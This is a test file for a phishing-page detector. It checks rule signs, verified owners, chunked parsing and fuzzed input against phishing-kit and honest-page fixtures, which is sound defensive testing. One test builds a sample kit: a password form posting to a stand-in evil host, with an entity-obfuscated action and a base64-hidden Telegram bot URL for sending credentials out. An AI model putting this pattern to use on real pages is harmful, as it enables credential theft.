import { readFileSync, writeFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { loadTextModel } from '../text/text-model.ts'
import { loadUrlModel } from '../url/url-model.ts'
import { classifyPage, examinePage, examinePageInTurns, judgePage, pageKnowledge } from './classify-page.ts'
import { pageSignRules } from './page-signs.ts'
import { maxHtmlLength } from './submitted-page.ts'

const folder = new URL('../../../../vectors/detect/pages/', import.meta.url)

const table = readFileSync(new URL('pages.tsv', folder), 'utf8')
const pages = table
  .split('\n')
  .filter((line) => line !== '' && !line.startsWith('#'))
  .slice(1)
  .map((line) => {
    const [kind = '', file = '', url = '', way = '', level = '', fraudType = ''] = line.split('\t')
    return { kind, file, url, way, level, fraudType }
  })

function submitted(file: string) {
  const row = pages.find((page) => page.file === file)
  if (!row) throw new RangeError(`no page ${file} in pages.tsv`)
  const html = readFileSync(new URL(`${row.kind === 'kit' ? 'kits' : 'honest'}/${file}.html`, folder), 'utf8')
  return { finalUrl: row.url, redirects: row.way === '-' ? [] : row.way.split(' '), html }
}

const rulesAlone = pageKnowledge()
const read = (name: string) => readFileSync(new URL(`../../models/${name}`, import.meta.url))
const withModels = pageKnowledge({
  urlModel: loadUrlModel(read('url.wzm')),
  textModel: loadTextModel(read('text.wzm')),
})

const isFound = (level: string): boolean => level === 'suspicious' || level === 'high'
const codesOf = (file: string, knowledge = rulesAlone): string[] =>
  classifyPage(knowledge, submitted(file)).signs.map(({ code }) => code)

describe('pages of our own making', () => {
  it('are judged by the rules as written down', () => {
    const found = pages.map((row) => {
      const { level, fraudType } = classifyPage(rulesAlone, submitted(row.file))
      return { ...row, level, fraudType: fraudType ?? '-' }
    })
    if (process.env['WUZEI_WRITE_TABLES']) {
      const head = table.split('\n').filter((line) => line.startsWith('#') || line.startsWith('kind\t'))
      const rows = found.map((row) =>
        [row.kind, row.file, row.url, row.way, row.level, row.fraudType].join('\t'),
      )
      writeFileSync(new URL('pages.tsv', folder), `${[...head, ...rows].join('\n')}\n`)
    } else expect(found).toEqual(pages)
  })

  for (const [name, knowledge, least, leastHigh] of [
    ['the rules alone', rulesAlone, 16, 10],
    ['rules and models', withModels, 16, 12],
  ] as const)
    it(`are told apart by ${name}`, () => {
      const judged = pages.map((row) => ({
        ...row,
        found: classifyPage(knowledge, submitted(row.file)).level,
      }))
      const missed = judged.filter((row) => row.kind === 'kit' && !isFound(row.found))
      const wrong = judged.filter((row) => row.kind === 'honest' && isFound(row.found))
      const kits = judged.filter((row) => row.kind === 'kit')
      const high = kits.filter((row) => row.found === 'high')
      const names = (rows: typeof judged) => rows.map(({ file }) => file).join(' ') || 'none'
      console.info(
        `${name}: ${kits.length - missed.length} of ${kits.length} kits found, ${high.length} high, missed: ` +
          `${names(missed)}; of ${judged.length - kits.length} honest pages wrong: ${names(wrong)}`,
      )
      expect(kits.length - missed.length).toBeGreaterThanOrEqual(least)
      // It asks for card, identity and code on a site that nobody knows: known, and bounded.
      expect(wrong.filter(({ file }) => file !== 'insurance-dealer-pay')).toEqual([])
      expect(wrong.filter(({ found }) => found === 'high')).toEqual([])
      expect(high.length).toBeGreaterThanOrEqual(leastHigh)
    })
})

describe('signs', () => {
  it('tell where the answers go', () => {
    expect(codesOf('office-login')).toContain('ANSWERS_TO_CHAT_BOT')
    expect(codesOf('courier-refund')).toContain('ANSWERS_TO_ADDRESS')
    expect(codesOf('mail-quota')).toContain('ANSWERS_TO_FORM_SERVICE')
    expect(codesOf('contact-formspree')).toEqual([])
    const page = (action: string, url = 'https://a.example.com/') =>
      classifyPage(rulesAlone, {
        finalUrl: url,
        html: `<form action="${action}"><input name=u><input type=password name=p></form>`,
      }).signs.map(({ code }) => code)
    expect(page('//b.example.org/x')).toEqual(['ANSWERS_TO_OTHER_SITE'])
    expect(page('http://www.example.com/login')).toEqual(['ANSWERS_UNPROTECTED'])
    expect(page('mailto:someone@gmail.com')).toEqual(['ANSWERS_BY_MAIL'])
    expect(page('data:text/html,x')).toEqual(['ANSWERS_TO_DATA'])
    expect(page('https://login.example.com/in')).toEqual([])
    expect(page('https://example.okta.com/')).toEqual([])
    expect(page('/in', 'http://203.0.113.9/')).toEqual(['FORM_ON_NUMBER'])
    expect(page('/in', 'http://192.168.0.1/')).toEqual([])
  })

  it('find a hidden bot address and what is reached by entities and odd writing', () => {
    const html =
      '<FORM ACTION=&#104;ttps://evil.example.org/x><INPUT TYPE=PassWord NAME=p></FORM>' +
      `<script>var u=atob("${btoa('https://api.telegram.org/bot123:abc/sendMessage')}")</script>`
    const { level, signs } = classifyPage(rulesAlone, { finalUrl: 'https://x.example.com/', html })
    expect(signs.map(({ code }) => code)).toEqual(['ANSWERS_TO_CHAT_BOT', 'ANSWERS_TO_OTHER_SITE'])
    expect(level).toBe('high')
  })

  it('never outweigh the verified owner of a site, and tell what is odd there', () => {
    const kit = submitted('office-login')
    const verifiedOwnerOf = (_: string, host: string) =>
      host === 'login.contoso.example' ? { id: 'contoso', name: { zh: '康多索', en: 'Contoso' } } : null
    const knowledge = pageKnowledge({ verifiedOwnerOf })
    const own = classifyPage(knowledge, { ...kit, finalUrl: 'https://login.contoso.example/' })
    expect(own.level).toBe('safe')
    expect(own.reasons.map(({ code }) => code)).toEqual(['VERIFIED_OWNER', 'ANSWERS_TO_CHAT_BOT'])
    expect(classifyPage(knowledge, { ...kit, finalUrl: 'https://login.contoso.example.cc/' }).level).toBe(
      'high',
    )
  })

  it('know an icon that a verified owner uses', () => {
    const icon = 'a'.repeat(64)
    const owner = { id: 'icbc', name: { zh: '工商银行', en: 'ICBC' } }
    const knowledge = pageKnowledge({ ownerOfIcon: (hash) => (hash === icon ? owner : null) })
    const codes = classifyPage(knowledge, {
      finalUrl: 'https://a.example.com/',
      html: '<form><input type=password></form>',
      faviconSha256: icon.toUpperCase(),
    }).signs.map(({ code }) => code)
    expect(codes).toEqual(['BRAND_ICON'])
  })

  it('make no page high by one group alone, and none confirmed', () => {
    const examined = examinePage(rulesAlone, { finalUrl: 'https://a.example.com/', html: '' })
    const values = { target: 'x', host: 'x', count: 2 }
    const isCode = (code: string): code is keyof typeof pageSignRules => code in pageSignRules
    for (const code of Object.keys(pageSignRules).filter(isCode)) {
      const { level } = judgePage(examined, [{ code, values }])
      if (!('isDecisive' in pageSignRules[code])) expect(level, code).not.toBe('high')
      expect(['unknown', 'suspicious', 'high'], code).toContain(level)
    }
  })

  it('have words without gaps in both languages', () => {
    for (const row of pages)
      for (const { code, text } of classifyPage(withModels, submitted(row.file)).reasons) {
        expect(text.zh, code).toMatch(/。$/)
        expect(text.en, code).toMatch(/\.$/)
        expect(`${text.zh}${text.en}`, code).not.toMatch(/[{}]|undefined/)
      }
  })
})

describe('a page read in turns', () => {
  it('is the same page, and lets others have theirs', async () => {
    const long = {
      ...submitted('office-login'),
      html: `<!--${'x'.repeat(200_000)}-->${submitted('office-login').html}`,
    }
    let turns = 0
    const pause = async () => await Promise.resolve(void (turns += 1))
    expect(await examinePageInTurns(withModels, long, pause)).toEqual(examinePage(withModels, long))
    expect(turns).toBeGreaterThan(4)
  })

  it('is read alike wherever its source is cut into parts', () => {
    const { fingerprint, signs } = examinePage(rulesAlone, submitted('courier-refund'))
    for (const padding of [65_400, 65_500, 65_536 - 700, 65_536 - 1_500]) {
      const html = `<!--${'x'.repeat(padding)}-->${submitted('courier-refund').html}`
      const moved = examinePage(rulesAlone, { ...submitted('courier-refund'), html })
      expect(moved.fingerprint).toEqual(fingerprint)
      expect(moved.signs).toEqual(signs)
    }
  })
})

describe('any input', () => {
  it('is answered', () => {
    const piece = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.constantFrom(
        ...'<form action=| <input type=password name=|<script>|</script>|<!--|-->|<iframe style="|">|<svg/onload=|'.split(
          '|',
        ),
        ...'<title>|&#x110000;|&amp|<base href=|http://|//|javascript:|<![CDATA[|<meta http-equiv=refresh content="0;|\u0000|©'.split(
          '|',
        ),
      ),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), fc.string({ unit: 'binary' }), (parts, finalUrl) => {
        const html = parts.join('')
        const { level, score, reasons } = classifyPage(rulesAlone, {
          finalUrl,
          html,
          redirects: parts.slice(0, 5),
        })
        expect(score).toBeGreaterThanOrEqual(0)
        expect(score).toBeLessThanOrEqual(1)
        expect(level).not.toBe('confirmed')
        expect(Array.isArray(reasons)).toBe(true)
      }),
      { numRuns: 200 },
    )
  })

  /** A quadratic reader would take minutes for each and run into the time limit of tests. */
  const hostile: readonly (readonly [string, string])[] = [
    ['nested elements', '<div>'],
    ['unclosed forms', '<form><p><input name=a type=password>'],
    ['attributes', ' a1b2c3'],
    ['closing tags without opening', '</a></b>'],
    ['comments', '<!-->'],
    ['entities', '&amp;&#120;'],
    ['quotes in scripts', '/*"\'`'],
    ['links', '<a href="//x.y/z">'],
    ['angle brackets', '<'],
    ['white space', ' \n'],
    ['frames', '<iframe src=//q.example style="position:fixed;inset:0">'],
  ]
  for (const [name, unit] of hostile)
    it(`is read whole, or cut, when it is two million characters of ${name}`, () => {
      const start = name === 'attributes' ? '<div' : name === 'quotes in scripts' ? '<script>' : ''
      const html = start + unit.repeat(Math.ceil(maxHtmlLength / unit.length))
      const { level } = classifyPage(withModels, { finalUrl: 'https://a.example.com/', html })
      expect(level).toMatch(/unknown|suspicious/)
    })
})
